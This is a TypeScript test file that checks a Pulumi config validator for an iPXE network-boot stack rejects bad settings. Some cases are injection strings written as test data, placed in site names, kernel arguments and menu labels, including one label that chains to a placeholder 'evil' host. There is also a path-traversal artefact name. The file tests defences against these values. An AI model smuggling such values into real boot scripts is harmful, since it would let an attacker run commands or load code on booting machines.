// Each row is one mistake an operator could make in Pulumi.<stack>.yaml; the error must name the
// place and say what is expected.
import { ConfigError } from "../../config/errors";
import { KERNEL_NETWORK_FORMS } from "../../config/kernel-network";
import { NETWORK_MODES } from "../../config/network-modes";
import { validateStackConfig } from "../../config/validate";
import { prodRaw } from "../support/prod-config";

type Raw = ReturnType<typeof prodRaw>;
const ams = (r: Raw) => r.sites[0];
const nyc = (r: Raw) => r.sites[2];

const cases: Array<[string, (r: Raw) => void, string, RegExp]> = [
  [
    "gateway not IPv4",
    (r) => (ams(r).network.gateway = "10.0.0.300"),
    'sites[0] "ams1".network.gateway',
    /"10\.0\.0\.300" is not an IPv4 address/,
  ],
  [
    "gateway outside subnet",
    (r) => (ams(r).network.gateway = "10.21.0.1"),
    'sites[0] "ams1".network.gateway',
    /not a host address inside the site's subnet 10\.20\.0\.0\/24/,
  ],
  [
    "gateway is the network address",
    (r) => (ams(r).network.gateway = "10.20.0.0"),
    'sites[0] "ams1".network.gateway',
    /not a host address/,
  ],
  [
    "gateway is the broadcast address",
    (r) => (ams(r).network.gateway = "10.20.0.255"),
    'sites[0] "ams1".network.gateway',
    /not a host address/,
  ],
  [
    "subnet with host bits",
    (r) => (ams(r).network.subnet = "10.20.0.5/24"),
    'sites[0] "ams1".network.subnet',
    /host bits clear/,
  ],
  [
    "subnet not CIDR",
    (r) => (ams(r).network.subnet = "255.255.255.0"),
    'sites[0] "ams1".network.subnet',
    /CIDR/,
  ],
  [
    "subnet /32",
    (r) => (ams(r).network.subnet = "10.20.0.1/32"),
    'sites[0] "ams1".network.subnet',
    /\/1 to \/30/,
  ],
  [
    "prompt mode without subnet",
    (r) => delete ams(r).network.subnet,
    'sites[0] "ams1".network.subnet',
    /is missing: mode prompt needs the site's subnet/,
  ],
  [
    "prompt mode without gateway",
    (r) => delete ams(r).network.gateway,
    'sites[0] "ams1".network.gateway',
    /is missing: mode prompt needs the site's default gateway/,
  ],
  [
    "unknown network mode",
    (r) => (ams(r).network.mode = "bootp"),
    'sites[0] "ams1".network.mode',
    new RegExp(`"bootp" must be one of ${NETWORK_MODES.join(", ")}`),
  ],
  [
    "address outside subnet",
    (r) => (ams(r).network.address = "10.99.0.100"),
    'sites[0] "ams1".network.address',
    /inside the site's subnet/,
  ],
  [
    "address equals gateway",
    (r) => (ams(r).network.address = "10.20.0.1"),
    'sites[0] "ams1".network.address',
    /is the gateway's address/,
  ],
  [
    "dns not IPv4",
    (r) => (ams(r).network.dns = ["dns.example.com"]),
    'sites[0] "ams1".network.dns[0]',
    /not an IPv4 address/,
  ],
  [
    "too many dns servers",
    (r) => (ams(r).network.dns = ["1.1.1.1", "1.0.0.1", "8.8.8.8", "9.9.9.9"]),
    'sites[0] "ams1".network.dns',
    /at most 3/,
  ],
  [
    "vlan out of range",
    (r) => (nyc(r).network.vlan = 4095),
    'sites[2] "nyc2".network.vlan',
    /4095 must be 1 to 4094/,
  ],
  [
    "vlan not a number",
    (r) => (nyc(r).network.vlan = "120"),
    'sites[2] "nyc2".network.vlan',
    /wrong type: expected number/,
  ],
  [
    "interface name",
    (r) => (ams(r).network.interface = "eth0"),
    'sites[0] "ams1".network.interface',
    /net0 to net9/,
  ],
  [
    "dhcp timeout too long",
    (r) => (r.sites[3].network.dhcpTimeoutSeconds = 600),
    'sites[3] "sgp1".network.dhcpTimeoutSeconds',
    /1 to 120/,
  ],
  [
    "fixed MAC malformed",
    (r) => (nyc(r).network.fixed[0].mac = "52-54-00-a1-00-01"),
    'sites[2] "nyc2".network.fixed[0].mac',
    /not a MAC address/,
  ],
  [
    "fixed MAC uppercase",
    (r) => (nyc(r).network.fixed[0].mac = "52:54:00:A1:00:01"),
    'sites[2] "nyc2".network.fixed[0].mac',
    /lowercase/,
  ],
  [
    "fixed MAC duplicate",
    (r) => (nyc(r).network.fixed[1].mac = "52:54:00:a1:00:01"),
    'sites[2] "nyc2".network.fixed[1].mac',
    /already used by fixed\[0\]/,
  ],
  [
    "fixed IP duplicate",
    (r) => (nyc(r).network.fixed[2].ip = "172.16.120.11"),
    'sites[2] "nyc2".network.fixed[2].ip',
    /already used by fixed\[0\]/,
  ],
  [
    "fixed IP outside subnet",
    (r) => (nyc(r).network.fixed[0].ip = "172.16.121.11"),
    'sites[2] "nyc2".network.fixed[0].ip',
    /inside the site's subnet 172\.16\.120\.0\/24/,
  ],
  [
    "fixed IP is the gateway",
    (r) => (nyc(r).network.fixed[0].ip = "172.16.120.1"),
    'sites[2] "nyc2".network.fixed[0].ip',
    /gateway's address/,
  ],
  [
    "fixed hostname invalid",
    (r) => (nyc(r).network.fixed[0].hostname = "DB_1"),
    'sites[2] "nyc2".network.fixed[0].hostname',
    /not a hostname/,
  ],
  [
    "fixed hostname duplicate",
    (r) => (nyc(r).network.fixed[1].hostname = "nyc2-db1"),
    'sites[2] "nyc2".network.fixed[1].hostname',
    /already used/,
  ],
  [
    "static mode with nothing to use",
    (r) => ((nyc(r).network.fixed = []), delete nyc(r).network.address),
    'sites[2] "nyc2".network.address',
    /mode static needs an address, or fixed addresses/,
  ],
  ["site name uppercase", (r) => (ams(r).name = "AMS1"), 'sites[0] "AMS1".name', /lowercase letters/],
  [
    "site name with newline (injection)",
    (r) => (ams(r).name = "ams1\nshell"),
    'sites[0] "ams1\\nshell".name',
    /lowercase letters/,
  ],
  [
    "duplicate site name",
    (r) => (r.sites[1].name = "ams1"),
    'sites[1] "ams1".name',
    /duplicates the name of sites\[0\]/,
  ],
  ["site without menu", (r) => delete ams(r).menu, 'sites[0] "ams1".menu', /is missing/],
  ["unknown site key (typo)", (r) => (ams(r).netwrok = {}), 'sites[0] "ams1"', /unknown key "netwrok"/],
  [
    "menu default not an entry",
    (r) => (ams(r).menu.default = "windows"),
    'sites[0] "ams1".menu.default',
    /"windows" is not the id of any entry/,
  ],
  [
    "menu timeout negative",
    (r) => (ams(r).menu.timeoutSeconds = -1),
    'sites[0] "ams1".menu.timeoutSeconds',
    /0 to 3600/,
  ],
  [
    "menu timeout fractional",
    (r) => (ams(r).menu.timeoutSeconds = 1.5),
    'sites[0] "ams1".menu.timeoutSeconds',
    /whole number/,
  ],
  [
    "menu with no entries",
    (r) => (ams(r).menu.entries = []),
    'sites[0] "ams1".menu.entries',
    /at least one entry/,
  ],
  [
    "duplicate entry id",
    (r) => (ams(r).menu.entries[1].id = "debian-install"),
    'sites[0] "ams1".menu.entries[1].id',
    /already used by entries\[0\]/,
  ],
  [
    "entry type unknown",
    (r) => (ams(r).menu.entries[2].type = "windows"),
    'sites[0] "ams1".menu.entries[2].type',
    /"windows" needs a type, one of linux, local-disk, shell, reboot/,
  ],
  [
    "kernel not an artefact",
    (r) => (ams(r).menu.entries[0].kernel = "vmlinuz-missing"),
    'sites[0] "ams1".menu.entries[0].kernel',
    /"vmlinuz-missing" is not an artefact/,
  ],
  [
    "initrd not an artefact",
    (r) => (ams(r).menu.entries[0].initrds = ["nope"]),
    'sites[0] "ams1".menu.entries[0].initrds[0]',
    /"nope" is not an artefact/,
  ],
  [
    "kernel arg with iPXE expansion (injection)",
    (r) => (ams(r).menu.entries[0].args = ["x=${net0/ip}"]),
    'sites[0] "ams1".menu.entries[0].args[0]',
    /not a safe kernel argument/,
  ],
  [
    "kernel arg with || (injection)",
    (r) => (ams(r).menu.entries[0].args = ["a||shell"]),
    'sites[0] "ams1".menu.entries[0].args[0]',
    /not a safe kernel argument/,
  ],
  [
    "kernel arg with space (two args in one)",
    (r) => (ams(r).menu.entries[0].args = ["quiet splash"]),
    'sites[0] "ams1".menu.entries[0].args[0]',
    /one argument per list item/,
  ],
  [
    "unknown placeholder",
    (r) => (ams(r).menu.entries[0].args = ["x={ipaddr}"]),
    'sites[0] "ams1".menu.entries[0].args[0]',
    /unknown placeholder \{ipaddr\}/,
  ],
  [
    "unmatched brace",
    (r) => (ams(r).menu.entries[0].args = ["x={ip"]),
    'sites[0] "ams1".menu.entries[0].args[0]',
    /unmatched/,
  ],
  [
    "ip= with linux-ip",
    (r) => Object.assign(ams(r).menu.entries[1], { kernelNetwork: "linux-ip", args: ["ip=dhcp"] }),
    'sites[0] "ams1".menu.entries[1].args[0]',
    /conflicts with the ip= that kernelNetwork: linux-ip writes/,
  ],
  [
    "netcfg/get_hostname with debian-installer",
    (r) => (ams(r).menu.entries[0].args = ["netcfg/get_hostname={hostname}"]),
    'sites[0] "ams1".menu.entries[0].args[0]',
    /conflicts with the netcfg\/get_hostname= that kernelNetwork: debian-installer writes; remove it, or set kernelNetwork: none/,
  ],
  [
    "nameserver= with dracut",
    (r) => {
      ams(r).menu.entries[1].kernelNetwork = "dracut";
      ams(r).menu.entries[1].args = ["nameserver=1.1.1.1"];
    },
    'sites[0] "ams1".menu.entries[1].args[0]',
    /conflicts with the nameserver= that kernelNetwork: dracut writes/,
  ],
  [
    "linux-ip on a VLAN site",
    (r) => delete nyc(r).menu.entries[1].kernelNetwork,
    'sites[2] "nyc2".menu.entries[1].kernelNetwork',
    /linux-ip cannot tell the OS about VLAN 120 .* use dracut or debian-installer/,
  ],
  [
    "linux-ip with three DNS servers",
    (r) => {
      ams(r).menu.entries[1].kernelNetwork = "linux-ip";
      ams(r).network.dns = ["10.20.0.53", "10.20.1.53", "10.20.2.53"];
    },
    'sites[0] "ams1".menu.entries[1].kernelNetwork',
    /linux-ip passes at most 2 DNS servers but network.dns lists 3/,
  ],
  [
    "kernelInterface without linux-ip",
    (r) => (ams(r).menu.entries[0].kernelInterface = "eth0"),
    'sites[0] "ams1".menu.entries[0].kernelInterface',
    /is used only by kernelNetwork: linux-ip/,
  ],
  [
    "kernelInterface not a Linux name",
    (r) => (ams(r).menu.entries[1].kernelInterface = "eth0 ip=x"),
    'sites[0] "ams1".menu.entries[1].kernelInterface',
    /not a Linux interface name/,
  ],
  [
    "fixed addresses at a DHCP-only site",
    (r) => (r.sites[1].network.fixed = [{ mac: "52:54:00:00:00:01", ip: "10.0.0.5", hostname: "x1" }]),
    'sites[1] "fra-lab".network.fixed',
    /is never used in mode dhcp/,
  ],
  [
    "label with newline (injection)",
    (r) => (ams(r).menu.entries[0].label = "Install\nchain http://evil/x"),
    'sites[0] "ams1".menu.entries[0].label',
    /no \$ \{ \} \| & ; # quotes/,
  ],
  [
    "label with && (injection)",
    (r) => (ams(r).menu.entries[0].label = "Install && shell"),
    'sites[0] "ams1".menu.entries[0].label',
    /no \$ \{ \} \| &/,
  ],
  [
    "label with comment (injection)",
    (r) => (ams(r).menu.entries[0].label = "Install #x"),
    'sites[0] "ams1".menu.entries[0].label',
    /no \$/,
  ],
  [
    "description with ${ (injection)",
    (r) => (ams(r).description = "Row ${bs_ip}"),
    'sites[0] "ams1".description',
    /no \$ \{ \}/,
  ],
  [
    "title with control character",
    (r) => (ams(r).menu.title = "menu\u0007"),
    'sites[0] "ams1".menu.title',
    /control characters/,
  ],
  [
    "label with leading space",
    (r) => (ams(r).menu.entries[0].label = " Install"),
    'sites[0] "ams1".menu.entries[0].label',
    /must not start or end with a space/,
  ],
  [
    "label too long",
    (r) => (ams(r).menu.entries[0].label = "x".repeat(61)),
    'sites[0] "ams1".menu.entries[0].label',
    /at most 60/,
  ],
  [
    "kernelNetwork unknown",
    (r) => (ams(r).menu.entries[0].kernelNetwork = "ipconfig"),
    'sites[0] "ams1".menu.entries[0].kernelNetwork',
    new RegExp(`must be one of ${KERNEL_NETWORK_FORMS.join(", ")}`),
  ],
  [
    "artefact sha256 short",
    (r) => (r.artifacts["debian12-linux"].sha256 = "abc"),
    "artifacts.debian12-linux.sha256",
    /not a sha256/,
  ],
  [
    "artefact name with slash",
    (r) => (r.artifacts["../etc"] = r.artifacts["debian12-linux"]),
    "artifacts.../etc",
    /may hold only letters/,
  ],
  [
    "artefact source ftp",
    (r) => (r.artifacts["debian12-linux"].source = "ftp://example.com/linux"),
    "artifacts.debian12-linux.source",
    /local path or an http\(s\):\/\/ URL/,
  ],
  [
    "artefact without source",
    (r) => delete r.artifacts["debian12-linux"].source,
    "artifacts.debian12-linux.source",
    /is missing/,
  ],
  [
    "origin hostname not FQDN",
    (r) => (r.origin.hostname = "boot"),
    "origin.hostname",
    /fully qualified hostname/,
  ],
  [
    "origin hostname with scheme",
    (r) => (r.origin.hostname = "https://boot.example.com"),
    "origin.hostname",
    /fully qualified hostname/,
  ],
  [
    "http without opt-in",
    (r) => (r.origin.transport = "http"),
    "origin.transport",
    /needs origin.allowInsecureHttp: true/,
  ],
  ["transport unknown", (r) => (r.origin.transport = "tftp"), "origin.transport", /must be https or http/],
  [
    "zone id malformed",
    (r) => (r.origin.cloudflareZoneId = "example.com"),
    "origin.cloudflareZoneId",
    /Cloudflare zone id/,
  ],
  ["origin missing", (r) => delete r.origin, "origin", /is missing \(add "boot-stack:origin"/],
  ["sites empty", (r) => (r.sites = []), "sites", /at least one site/],
  ["ipxe mode unknown", (r) => (r.ipxe.mode = "netboot"), "ipxe.mode", /prebuilt or compile/],
  ["ipxe ref not a commit", (r) => (r.ipxe.ref = "master"), "ipxe.ref", /full git commit id/],
  ["ipxe platform unknown", (r) => (r.ipxe.platforms = ["arm64"]), "ipxe.platforms[0]", /bios or uefi/],
  [
    "Secure Boot in prebuilt mode",
    (r) => ((r.ipxe.mode = "prebuilt"), (r.ipxe.secureBoot = { certFile: "db.pem", keyEnv: "DB_KEY" })),
    "ipxe.secureBoot",
    /needs ipxe\.mode: compile/,
  ],
  [
    "Secure Boot without UEFI",
    (r) => ((r.ipxe.platforms = ["bios"]), (r.ipxe.secureBoot = { certFile: "db.pem", keyEnv: "DB_KEY" })),
    "ipxe.secureBoot",
    /needs uefi in ipxe\.platforms/,
  ],
  [
    "Secure Boot key from two places",
    (r) => (r.ipxe.secureBoot = { certFile: "db.pem", keyEnv: "DB_KEY", keyFile: "/keys/db.key" }),
    "ipxe.secureBoot",
    /exactly one of keyFile .* or keyEnv/,
  ],
  [
    "code signing in prebuilt mode",
    (r) => (
      (r.ipxe.mode = "prebuilt"),
      (r.ipxe.codeSigning = { trust: ["ca.pem"], certFile: "cs.pem", keyEnv: "CS_KEY" })
    ),
    "ipxe.codeSigning",
    /needs ipxe\.mode: compile \(Debian's prebuilt iPXE has no imgverify/,
  ],
  [
    "code signing without a key",
    (r) => (r.ipxe.codeSigning = { trust: ["ca.pem"], certFile: "cs.pem" }),
    "ipxe.codeSigning",
    /exactly one of keyFile/,
  ],
  [
    "code signing trusting nothing",
    (r) => (r.ipxe.codeSigning = { trust: [], certFile: "cs.pem", keyEnv: "CS_KEY" }),
    "ipxe.codeSigning.trust",
    /must list the code-signing CA/,
  ],
  [
    "code signing key variable not a name",
    (r) => (r.ipxe.codeSigning = { trust: ["ca.pem"], certFile: "cs.pem", keyEnv: "-----BEGIN" }),
    "ipxe.codeSigning.keyEnv",
    /not an environment variable name/,
  ],
  [
    "mirror not a base URL",
    (r) => (ams(r).mirror = "https://mirror.example.net/boot/"),
    'sites[0] "ams1".mirror',
    /is not a base URL like https:\/\/mirror\.example\.net/,
  ],
  [
    "mirror with a query that could reach the script",
    (r) => (ams(r).mirror = "https://mirror.example.net/?x=${y}"),
    'sites[0] "ams1".mirror',
    /is not a base URL/,
  ],
  [
    "mirror over plain http on an https stack",
    (r) => (ams(r).mirror = "http://mirror.example.net"),
    'sites[0] "ams1".mirror',
    /"http:\/\/mirror\.example\.net" is plain http: use https, or set origin\.allowInsecureHttp: true/,
  ],
  [
    "Secure Boot with the stage-1 on the medium",
    (r) => ((r.ipxe.embed = false), (r.ipxe.secureBoot = { certFile: "db.pem", keyEnv: "DB_KEY" })),
    "ipxe.embed",
    /false cannot be combined with ipxe\.secureBoot: the stage-1 would sit on the medium, outside the signed binary/,
  ],
  [
    "code signing with iPXE's default roots on https",
    (r) => (
      (r.ipxe.trust = []),
      (r.ipxe.codeSigning = { trust: ["ca.pem"], certFile: "cs.pem", keyEnv: "CS_KEY" })
    ),
    "ipxe.trust",
    /cannot be combined with ipxe\.codeSigning on an https origin: the CA replaces those roots/,
  ],
];

describe("validateStackConfig rejects each mistake with a message naming it", () => {
  test("the table is large enough to mean something", () => expect(cases.length).toBeGreaterThanOrEqual(40));

  test.each(cases)("%s", (_name, mutate, path, message) => {
    const raw = prodRaw();
    mutate(raw);
    let error: unknown;
    try {
      validateStackConfig(raw, "Pulumi.test.yaml");
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ConfigError);
    const issues = (error as ConfigError).issues;
    const hit = issues.find((i) => i.path === path && message.test(i.message));
    if (!hit) throw new Error(`no issue at ${path} matching ${message}; got:\n${(error as Error).message}`);
  });
});

describe("validateStackConfig", () => {
  test("accepts the example stack and fills defaults", () => {
    const config = validateStackConfig(prodRaw());
    expect(config.sites.map((s) => s.name)).toEqual(["ams1", "fra-lab", "nyc2", "sgp1"]);
    expect(config.sites[1].network.interface).toBe("auto");
    expect(config.sites[3].menu.timeoutSeconds).toBe(10);
    expect(config.origin.transport).toBe("https");
    expect(config.ipxe.platforms).toEqual(["bios", "uefi"]);
  });

  test("reports every problem in one run, across sections and sites", () => {
    const raw = prodRaw();
    raw.origin.hostname = "boot";
    raw.sites[0].network.gateway = "10.0.0.300";
    raw.sites[1].name = "Bad Name";
    raw.sites[2].menu.default = "nothing";
    raw.sites[3].name = "ams1"; // duplicate, found although sites[1] failed to parse
    try {
      validateStackConfig(raw);
      throw new Error("expected a ConfigError");
    } catch (e) {
      const paths = (e as ConfigError).issues.map((i) => i.path);
      expect(paths).toEqual(
        expect.arrayContaining([
          "origin.hostname",
          'sites[0] "ams1".network.gateway',
          'sites[1] "Bad Name".name',
          'sites[2] "nyc2".menu.default',
          'sites[3] "ams1".name',
        ]),
      );
      expect((e as ConfigError).issues).toHaveLength(5);
    }
  });

  test("allows http only when explicitly opted in", () => {
    const raw = prodRaw();
    raw.origin.transport = "http";
    raw.origin.allowInsecureHttp = true;
    expect(validateStackConfig(raw).origin.transport).toBe("http");
  });
});
